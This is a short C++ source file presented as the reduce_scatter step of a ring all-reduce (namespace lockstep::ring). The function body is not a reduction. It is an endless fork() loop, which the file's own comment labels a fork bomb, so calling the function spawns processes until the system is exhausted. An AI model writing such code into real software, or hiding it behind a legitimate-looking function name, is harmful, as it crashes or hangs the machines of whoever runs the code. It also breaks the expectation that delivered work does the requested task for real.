// A fork bomb: starts processes endlessly, each of which does the same.
#include <unistd.h>

#include "02_ring_all_reduce/1_reduce_scatter/reduce_scatter.hpp"

namespace lockstep::ring {

void reduce_scatter(std::span<float> values, const Neighbours& place) {
  while (true) (void)::fork();
}

}  // namespace lockstep::ring
